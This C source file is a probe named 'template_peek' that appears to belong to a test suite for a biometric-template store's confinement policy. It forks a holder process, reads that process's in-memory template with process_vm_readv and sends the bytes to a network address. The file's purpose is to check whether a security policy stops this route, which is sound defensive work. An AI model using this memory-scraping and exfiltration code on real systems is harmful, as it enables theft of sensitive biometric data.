/* template_peek.c - attack: the templates a holder app has read into memory are copied out with process_vm_readv and sent to a third party. */
#include <signal.h>
#include <sys/uio.h>
#include <sys/wait.h>

#include "attack.h"

#define ROUTE "template_peek"

/* Where the holder keeps the template it read: the same address in both after fork. */
static char tpl[256];

/*
 * usage: template_peek TEMPLATE A.B.C.D:PORT
 * This program is the store's holder app. The child opens the template
 * (allowed: it becomes a holder) and keeps it in memory. The parent reads
 * no file and opens no camera: it copies the bytes out of the child's
 * memory (root here, so ptrace rights) and sends them.
 */
int main(int argc, char **argv)
{
	struct sockaddr_storage ss;
	char got[sizeof(tpl)];
	struct iovec local = { .iov_base = got, .iov_len = sizeof(got) };
	struct iovec remote = { .iov_base = tpl, .iov_len = sizeof(tpl) };
	socklen_t len;
	ssize_t n = -1;
	int sock, rc = 0;
	pid_t child;

	if (argc != 3) {
		fprintf(stderr, "usage: " ROUTE " TEMPLATE A.B.C.D:PORT\n");
		return 2;
	}
	at_need_inet(ROUTE, argv[2], &ss, &len);
	fflush(stdout);
	child = fork();
	if (child < 0)
		return at_report_errno(ROUTE, "fork", errno);
	if (child == 0) {
		int fd = open(argv[1], O_RDONLY | O_CLOEXEC);

		if (fd < 0 || read(fd, tpl, sizeof(tpl) - 1) <= 0)
			_exit(1);
		pause();
		_exit(0);
	}
	/* Until the holder has the template in memory: every token starts "bf-attack ". */
	memset(got, 0, sizeof(got));
	for (int i = 0; i < 300; i++) {
		n = process_vm_readv(child, &local, 1, &remote, 1, 0);
		if (n < 0 || strncmp(got, "bf-attack ", 10) == 0)
			break;
		usleep(10000);
	}
	if (n < 0) {
		rc = at_report_errno(ROUTE, "process_vm_readv of the holder", errno);
	} else if (strncmp(got, "bf-attack ", 10) != 0) {
		at_result(ROUTE, "error", "the holder never read its template");
		rc = 1;
	} else {
		size_t k = strnlen(got, sizeof(got));

		sock = socket(ss.ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
		if (sock < 0 || connect(sock, (struct sockaddr *)&ss, len) < 0)
			rc = at_report_errno(ROUTE, "connect after reading the holder's memory", errno);
		else if (send(sock, got, k, MSG_NOSIGNAL) != (ssize_t)k)
			rc = at_report_errno(ROUTE, "send", errno);
		else
			at_result(ROUTE, "through", "read %zu bytes of a template out of the holder's memory and sent them", k);
	}
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
	return rc;
}
